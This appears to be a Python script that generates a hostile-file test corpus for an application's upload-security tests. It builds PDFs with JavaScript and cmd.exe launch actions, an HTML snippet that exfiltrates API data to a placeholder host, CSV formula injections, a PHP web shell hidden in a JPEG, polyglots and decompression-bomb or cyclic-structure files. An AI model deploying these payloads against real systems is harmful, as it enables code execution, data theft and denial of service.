"""Generate the hostile-file corpus in tests/data/hostile/ (small, commit-ready).

    .venv/bin/python tests/security/make_hostile.py

PDFs are built with pypdf or, where pypdf would repair the damage, as raw
bytes; CSVs and images are built byte by byte or with Pillow. What each file
must do to the application (accepted, flagged, refused) and why is the table
in tests/security/test_hostile_files.py. Re-running rewrites every file (the
encrypted ones differ each time: their file IDs are random).
"""

from __future__ import annotations

import io
import struct
import sys
import zipfile
import zlib
from pathlib import Path

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    StreamObject,
    TextStringObject,
)

OUT = Path(__file__).resolve().parents[1] / "data" / "hostile"


# ---------------------------------------------------------------- PDF helpers


def _bytes(w: PdfWriter) -> bytes:
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def _writer(pages: int = 1) -> PdfWriter:
    w = PdfWriter()
    for _ in range(pages):
        w.add_blank_page(width=595, height=842)
    w.add_metadata({"/Title": "hostile corpus", "/Producer": "make_hostile"})
    return w


def _action(kind: str, **extra) -> DictionaryObject:
    d = DictionaryObject({NameObject("/Type"): NameObject("/Action"),
                          NameObject("/S"): NameObject(kind)})  # fmt: skip
    for key, value in extra.items():
        d[NameObject(f"/{key}")] = value
    return d


def _rect() -> ArrayObject:
    return ArrayObject([FloatObject(0), FloatObject(0), FloatObject(100), FloatObject(100)])


def clean() -> bytes:
    return _bytes(_writer())


def js_open_action() -> bytes:
    w = _writer()
    js = _action("/JavaScript", JS=TextStringObject("app.alert('hostile');"))
    w._root_object[NameObject("/OpenAction")] = w._add_object(js)
    return _bytes(w)


def js_names_tree() -> bytes:
    w = _writer()
    js = _action(
        "/JavaScript", JS=TextStringObject("this.exportDataObject({cName: 'x', nLaunch: 2});")
    )
    tree = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("init"), w._add_object(js)])}
    )
    w._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})
    return _bytes(w)


def launch_action() -> bytes:
    w = _writer()
    launch = _action("/Launch", F=TextStringObject("cmd.exe"),
                     Win=DictionaryObject({NameObject("/F"): TextStringObject("cmd.exe"),
                                           NameObject("/P"): TextStringObject("/c calc")}))  # fmt: skip
    w._root_object[NameObject("/OpenAction")] = w._add_object(launch)
    return _bytes(w)


def embedded_file() -> bytes:
    w = _writer()
    w.add_attachment("invoice.exe", b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run")
    return _bytes(w)


def xfa_form() -> bytes:
    w = _writer()
    xfa = StreamObject()
    xfa._data = (
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>'
    )
    form = DictionaryObject({NameObject("/Fields"): ArrayObject(),
                             NameObject("/XFA"): w._add_object(xfa)})  # fmt: skip
    w._root_object[NameObject("/AcroForm")] = w._add_object(form)
    return _bytes(w)


def _annotate(w: PdfWriter, annot: DictionaryObject) -> None:
    page = w.pages[0]
    page[NameObject("/Annots")] = ArrayObject([w._add_object(annot)])


def rich_media() -> bytes:
    w = _writer()
    _annotate(w, DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/RichMedia"),
        NameObject("/Rect"): _rect(),
        NameObject("/RichMediaContent"): DictionaryObject({NameObject("/Assets"): DictionaryObject()}),
    }))  # fmt: skip
    return _bytes(w)


def page_additional_action() -> bytes:
    w = _writer()
    w.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _action("/JavaScript", JS=TextStringObject("app.launchURL('http://x')"))}
    )
    return _bytes(w)


def link_javascript() -> bytes:
    w = _writer()
    _annotate(w, DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): _rect(),
        NameObject("/A"): _action("/JavaScript", JS=TextStringObject("app.alert(document.cookie)")),
    }))  # fmt: skip
    return _bytes(w)


def orphan_javascript() -> bytes:
    """A /JS object that nothing references: only a raw scan finds it."""
    base = clean()
    marker = b"startxref"
    at = base.rfind(marker)
    # Insert an unreferenced object before the xref (older readers recovering
    # a damaged file would still parse it).
    orphan = b"999 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"
    return base[:at] + orphan + base[at:]


def _encrypted(algorithm: str, user: str, owner: str) -> bytes:
    w = _writer()
    w.encrypt(user_password=user, owner_password=owner, algorithm=algorithm)
    return _bytes(w)


def incremental_update(hostile: bool) -> bytes:
    base = clean()
    w = PdfWriter(io.BytesIO(base), incremental=True)
    if hostile:
        js = _action("/JavaScript", JS=TextStringObject("app.alert('second revision');"))
        w._root_object[NameObject("/OpenAction")] = w._add_object(js)
    else:
        w.add_metadata({"/Subject": "revised"})
    out = _bytes(w)
    assert out.startswith(base[:100]) and out.count(b"%%EOF") >= 2, "not an incremental update"
    return out


def many_pages(n: int) -> bytes:
    return _bytes(_writer(n))


def _raw_pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF from object bodies (object i+1 = objects[i]) with a correct xref."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, root, xref,
    )  # fmt: skip
    return bytes(out)


def lying_page_count() -> bytes:
    """One real page, a page tree that claims 2**31-1 of them."""
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ])  # fmt: skip


def deep_page_tree(depth: int = 1200) -> bytes:
    """A page tree nested thousands of levels deep (recursion in naive readers)."""
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(depth):
        me, kid = level + 2, level + 3
        parent = b"" if level == 0 else b" /Parent %d 0 R" % (me - 1)
        objs.append(b"<< /Type /Pages /Kids [%d 0 R] /Count 1%s >>" % (kid, parent))
    objs.append(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % (depth + 1))
    return _raw_pdf(objs)


def cyclic_page_tree() -> bytes:
    """A /Pages node whose kid is its own parent: an infinite walk."""
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 2 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
    ])  # fmt: skip


# ---------------------------------------------------------------- other formats


def jpeg(size=(48, 32), exif: bool = False) -> bytes:
    im = Image.new("RGB", size, (120, 80, 40))
    out = io.BytesIO()
    if exif:
        e = Image.Exif()
        e[0x010F] = "SecretPhoneMaker"  # Make
        e[0x0110] = "Model-X1"  # Model
        e[0x013B] = "Reporter Zhang San"  # Artist
        e[0x8825] = {1: "N", 2: (24.0, 17.0, 1.5), 3: "E", 4: (97.0, 47.0, 2.5)}  # GPS
        im.save(out, "JPEG", exif=e)
    else:
        im.save(out, "JPEG")
    return out.getvalue()


def png(size=(30, 20), text: str | None = None) -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    if text:
        info.add_text("Comment", text)
    out = io.BytesIO()
    Image.new("RGBA", size, (0, 128, 0, 200)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb_header() -> bytes:
    """A valid-looking PNG that declares 100 000 × 100 000 pixels (40 GB RGBA)."""
    ihdr = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 6, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")
    )


def gif() -> bytes:
    out = io.BytesIO()
    Image.new("P", (10, 10)).save(out, "GIF")
    return out.getvalue()


def webp() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (20, 20), (10, 200, 30)).save(out, "WEBP")
    return out.getvalue()


def zip_archive(name: str = "report.pdf", data: bytes = b"%PDF-1.4 not really") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def exe() -> bytes:
    return (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44
            + b"\x80\x00\x00\x00" + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 64)  # fmt: skip


HTML = (b"<!DOCTYPE html><html><head><title>report</title></head><body>"
        b"<script>fetch('/api/v1/cases').then(r=>r.text()).then(t=>new Image().src='//x/?'+t)"
        b"</script></body></html>\n")  # fmt: skip
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
       b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>")  # fmt: skip

CSV_HEAD = "点位编号,深度,污染物,检测值,单位\n"


def csv_rows(n: int, point=lambda i: f"S{i}") -> str:
    return CSV_HEAD + "".join(f"{point(i)},0.5,铅,{100 + i},mg/kg\n" for i in range(n))


# ---------------------------------------------------------------- the corpus


def corpus() -> dict[str, bytes]:
    pdf = clean()
    files = {
        # PDFs: clean controls
        "clean.pdf": pdf,
        "many_pages_1000.pdf": many_pages(1000),
        "incremental_update_benign.pdf": incremental_update(hostile=False),
        # PDFs: active content (flagged for the reviewer)
        "js_open_action.pdf": js_open_action(),
        "js_names_tree.pdf": js_names_tree(),
        "launch_action.pdf": launch_action(),
        "embedded_file.pdf": embedded_file(),
        "xfa_form.pdf": xfa_form(),
        "rich_media.pdf": rich_media(),
        "page_additional_action.pdf": page_additional_action(),
        "link_javascript.pdf": link_javascript(),
        "orphan_javascript.pdf": orphan_javascript(),
        "incremental_update_js.pdf": incremental_update(hostile=True),
        # PDFs: refused
        "encrypted_rc4.pdf": _encrypted("RC4-128", "user", "owner"),
        "encrypted_aes256.pdf": _encrypted("AES-256", "user", "owner"),
        "encrypted_owner_only_aes128.pdf": _encrypted("AES-128", "", "owner"),
        "polyglot_junk_prefix.pdf": b"\x00" * 16 + b"junk before the header\n" + pdf,
        "polyglot_html_pdf.pdf": HTML + pdf,
        "polyglot_zip_pdf.pdf": zip_archive() + pdf,
        "polyglot_jpeg_pdf.pdf": jpeg() + pdf,
        "polyglot_gif_pdf.pdf": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + pdf,
        "polyglot_pdf_zip.pdf": pdf + zip_archive("run.bat", b"calc.exe\r\n"),
        "truncated.pdf": pdf[: len(pdf) // 2],
        "zero_bytes.pdf": b"",
        "header_only.pdf": b"%PDF-1.7\n%%EOF\n",
        "lying_page_count.pdf": lying_page_count(),
        "deep_page_tree.pdf": deep_page_tree(),
        "cyclic_page_tree.pdf": cyclic_page_tree(),
        "fake_html.pdf": HTML,
        "fake_exe.pdf": exe(),
        "fake_zip.pdf": zip_archive(),
        "fake_png.pdf": png(),
        # CSVs (samples)
        "samples_valid.csv": csv_rows(3).encode(),
        "samples_gb18030.csv": csv_rows(3).encode("gb18030"),
        "samples_oversized_bytes.csv": csv_rows(200).encode(),
        "samples_too_many_rows.csv": csv_rows(60).encode(),
        "samples_too_many_columns.csv": (
            CSV_HEAD.rstrip("\n") + ",x" * 60 + "\n" + "S1,0.5,铅,100,mg/kg" + ",1" * 60 + "\n"
        ).encode(),  # fmt: skip
        "samples_10kb_field.csv": (CSV_HEAD + "S" + "A" * 10_240 + ",0.5,铅,100,mg/kg\n").encode(),
        "samples_formula_point_id.csv": (
            CSV_HEAD + "\"=CMD|' /C calc'!A0\",0.5,铅,100,mg/kg\n" + "S2,0.5,铅,120,mg/kg\n"
        ).encode(),  # fmt: skip
        "samples_formula_extra_column.csv": (
            "点位编号,深度,污染物,检测值,单位,备注\n"
            "S1,0.5,铅,100,mg/kg,\"@SUM(1+1)*cmd|' /C calc'!A0\"\n"
        ).encode(),  # fmt: skip
        "samples_utf16.csv": csv_rows(3).encode("utf-16"),
        "samples_binary_junk.csv": bytes((i * 97 + 13) % 256 for i in range(4096)),
        "samples_xlsx_renamed.csv": zip_archive("xl/workbook.xml", b"<workbook/>"),
        "samples_unterminated_quote.csv": (CSV_HEAD + 'S1,0.5,"铅' + "x" * 5000 + "\n").encode(),
        # Images (tip-off photos)
        "photo_exif_gps.jpg": jpeg(exif=True),
        "photo_png_text_chunk.png": png(text="<script>alert(1)</script>"),
        "photo_jpeg_trailing_zip.jpg": jpeg()
        + zip_archive("shell.php", b"<?php system($_GET[c]);"),
        "photo_webp.webp": webp(),
        "photo_png_bomb_header.png": png_bomb_header(),
        "photo_gif_as_jpg.jpg": gif(),
        "photo_svg_as_png.png": SVG,
        "photo_html_as_jpg.jpg": HTML,
        "photo_truncated.jpg": jpeg((400, 300))[:600],
    }
    return files


def main(out: Path = OUT) -> int:
    out.mkdir(parents=True, exist_ok=True)
    files = corpus()
    for old in out.iterdir():
        if old.is_file() and old.name not in files and old.name != "README.md":
            old.unlink()
    for name, data in files.items():
        (out / name).write_bytes(data)
    total = sum(len(d) for d in files.values())
    print(f"wrote {len(files)} files ({total / 1024:.0f} KiB) to {out}")
    return 0


if __name__ == "__main__":
    sys.exit(main(Path(sys.argv[1]) if len(sys.argv) > 1 else OUT))
